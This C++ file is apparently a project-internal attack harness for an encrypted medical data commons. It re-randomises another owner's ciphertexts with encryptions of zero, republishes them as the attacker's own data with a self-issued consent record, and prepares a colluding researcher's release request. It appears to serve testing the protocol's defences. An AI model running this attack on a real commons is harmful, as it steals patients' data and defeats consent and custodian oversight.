// SPDX-License-Identifier: Apache-2.0
// copied_upload DIR SQL OUT: the attack that R21 is about, against a whole commons. A patient who is admitted reserves
// one row, puts an encryption of zero on each of the first owner's ciphertexts, uploads the sums as her own, proves
// what she can prove (the zeros), publishes, and records an authorisation for the result, which she computes herself.
// OUT/copied.call is what she then sends to a custodian.
#include <cstdio>

#include "base/file.hpp"
#include "client/release_request.hpp"
#include "client/upload_proof.hpp"
#include "governance/consent.hpp"
#include "node/local_commons.hpp"
#include "node/local_members.hpp"
#include "node/role.hpp"

namespace mc {
namespace {

constexpr std::uint32_t kThreads = 2;

class Copier {
 public:
  static Result<Copier> create(const std::filesystem::path& dir) {
    const node::LocalPaths paths{std::filesystem::absolute(dir)};
    MC_TRY(const node::LocalRecord record, node::read_local_record(paths));
    MC_TRY(client::CommonsDocument document, node::local_document(paths));
    MC_TRY(node::LocalMember patient, node::local_member(paths, record, "patient-" + record.cohorts.front().name));
    MC_TRY(client::ResearcherKeys researcher,
           client::load_or_create_researcher_keys(paths.researcher(std::string(node::kResearcherName))));
    MC_TRY(fhe::ParamsPtr params, fhe::Params::named(document.profile));
    Copier copier(std::move(document), std::move(patient.wallet), std::move(researcher), std::move(params));
    MC_TRY(copier.keys_,
           client::fetch_collective_keys(copier.store_, *copier.params_, copier.document_.epoch, copier.chain()));
    return copier;
  }

  /// Everything up to the publication.
  Status upload() {
    MC_TRY(const client::DatasetView before, look());
    const data::Manifest& victim = before.manifests.front();
    const Hash256 dataset = governance::dataset_id(document_.dataset);
    MC_TRY(const governance::SlotRange range, chain().reserve_slots(wallet_, dataset, 1));
    data::Manifest manifest = victim;
    manifest.owner = wallet_.address().bytes;
    manifest.range = {range.begin, range.count};
    const auto block = static_cast<std::uint32_t>(range.begin / params_->slot_count());
    std::vector<fhe::EncryptionWitness> zeros;
    for (data::ManifestEntry& entry : manifest.entries) {
      MC_TRY(const Bytes stolen, store_.blob(entry.blob));
      entry.block = block;
      MC_TRY(data::SealedBlock copy, disguise(stolen, data::expected_header(manifest, entry, *params_)));
      entry.bytes = copy.bytes.size();
      MC_TRY(entry.blob, put(copy.bytes));
      zeros.push_back(std::move(copy.witness));
    }
    const fhe::PlaintextProof proof = fhe::prove_plaintexts(
        *params_, public_key(), client::upload_statement(document_, manifest, 0), zeros, wallet_.secret());
    const Bytes proof_bytes = fhe::encode_plaintext_proof(*params_, proof);
    MC_TRY(const Hash256 proof_name, put(proof_bytes));
    manifest.proofs = {{proof_name, proof_bytes.size()}};
    MC_TRY(const Hash256 manifest_name, put(data::encode_manifest(manifest)));
    MC_TRY(const Hash256 attestation, put(governance::encode(consent(dataset))));
    MC_TRY([[maybe_unused]] const governance::Receipt receipt,
           chain().publish_data(wallet_, dataset, manifest_name, attestation));
    return store_.announce_publication();
  }

  /// The result as everybody would compute it, authorised in the name of the researcher, who is in league with her.
  Status ask(const std::string& sql, const std::filesystem::path& out) {
    MC_TRY(const client::DatasetView view, look());
    MC_TRY(const fhe::CommitteeShape shape, client::committee_shape(document_));
    client::Researcher researcher(document_, researcher_, chain(), node::http_transports());
    MC_TRY(const query::Plan plan, researcher.plan(sql));
    MC_TRY(const governance::Study study, researcher.study_for(query::plan_hash(plan), std::nullopt));
    const client::Engine engine(params_, std::move(keys_), static_cast<std::uint32_t>(shape.pieces().size()),
                                node::http_transports(), document_.store_url, kThreads);
    MC_TRY(const client::Recomputed result, engine.run(plan, view));
    MC_TRY(const std::uint32_t used, chain().releases_used(study.id));
    protocol::Authorisation claimed;
    claimed.chain_id = document_.deployment.chain_id;
    claimed.study = study.id;
    claimed.release_number = used + 1;
    claimed.epoch = document_.epoch;
    claimed.plan = query::plan_hash(plan);
    claimed.data_root = view.data_root;
    claimed.consent_root = view.consent_root;
    claimed.mask = view.mask;
    claimed.result = result.result;
    claimed.requester_key = study.proposal.requester_key;
    claimed.sigma_log2 = result.sigma_log2;
    MC_TRY([[maybe_unused]] const governance::Receipt receipt,
           chain().authorise(researcher_.wallet, client::chain_record(claimed), result.multiplicands));
    client::ReleaseCall call{claimed, sql, {}};
    for (const fhe::PieceId piece : shape.pieces_of(CustodianId(0))) call.bytes_for.push_back(piece);
    return write_file_atomically(out / "copied.call", client::encode_release_call(call));
  }

 private:
  Copier(client::CommonsDocument document, governance::Wallet wallet, client::ResearcherKeys researcher,
         fhe::ParamsPtr params)
      : document_(std::move(document)),
        wallet_(std::move(wallet)),
        researcher_(std::move(researcher)),
        params_(std::move(params)),
        link_(std::make_unique<node::ChainLink>(document_)),
        transport_(node::http_transports()(document_.store_url, "the store")),
        store_(*transport_) {}

  [[nodiscard]] fhe::PublicKey public_key() const { return fhe::narrow_public_key(*params_, keys_.public_key); }
  [[nodiscard]] const governance::CommonsChain& chain() const { return link_->commons(); }

  Result<client::DatasetView> look() {
    MC_TRY(const governance::Block now, link_->chain().latest_block());
    return client::PublicRecords(document_, params_).look(chain(), store_, document_.purpose, now.time_s);
  }

  /// The stolen ciphertext plus a fresh encryption of zero, under her own header; the witness is the zero's.
  Result<data::SealedBlock> disguise(ByteView stolen, const data::SealedHeader& own) const {
    KeyStream stream = KeyStream::fresh();
    const fhe::Encoder encoder(params_);
    MC_TRY(data::SealedBlock zero, data::seal_block(own, std::vector{0.0}, *params_, encoder, public_key(), stream));
    MC_TRY(data::SealedBlob copy, data::decode_sealed(stolen, *params_));
    MC_TRY(const data::SealedBlob added, data::decode_sealed(zero.bytes, *params_));
    for (std::size_t part = 0; part < 2; ++part)
      params_->ring().add(copy.ciphertext.parts[part], added.ciphertext.parts[part]);
    copy.header = own;
    return data::SealedBlock{data::encode_sealed(copy, *params_), std::move(zero.witness)};
  }

  [[nodiscard]] governance::ConsentAttestation consent(const Hash256& dataset) const {
    governance::InitialLeaf leaf;
    leaf.person = governance::person_commitment(wallet_.secret(), dataset, wallet_.address(), "herself");
    leaf.patient = wallet_.address();
    leaf.granted = true;
    leaf.use = document_.purpose;
    return {dataset, wallet_.address(), {leaf}};
  }

  Result<Hash256> put(ByteView bytes) {
    const Hash256 name = sha256(bytes);
    MC_TRY_STATUS(store_.put_blob(wallet_.address().text(), client::upload_token(document_, wallet_), name, bytes));
    return name;
  }

  client::CommonsDocument document_;
  governance::Wallet wallet_;
  client::ResearcherKeys researcher_;
  fhe::ParamsPtr params_;
  std::unique_ptr<node::ChainLink> link_;
  std::unique_ptr<client::Transport> transport_;
  client::StoreClient store_;
  client::CollectiveKeys keys_;
};

Status run(const std::filesystem::path& dir, const std::string& sql, const std::filesystem::path& out) {
  MC_TRY(Copier copier, Copier::create(dir));
  MC_TRY_STATUS(copier.upload());
  return copier.ask(sql, out);
}

}  // namespace
}  // namespace mc

int main(int argc, char** argv) {
  if (argc != 4) {
    std::fprintf(stderr, "copied_upload DIR SQL OUT\n");
    return 2;
  }
  const mc::Status status = mc::run(argv[1], argv[2], argv[3]);
  if (status) return 0;
  std::fprintf(stderr, "copied_upload: %s\n", status.error().message.c_str());
  return 1;
}
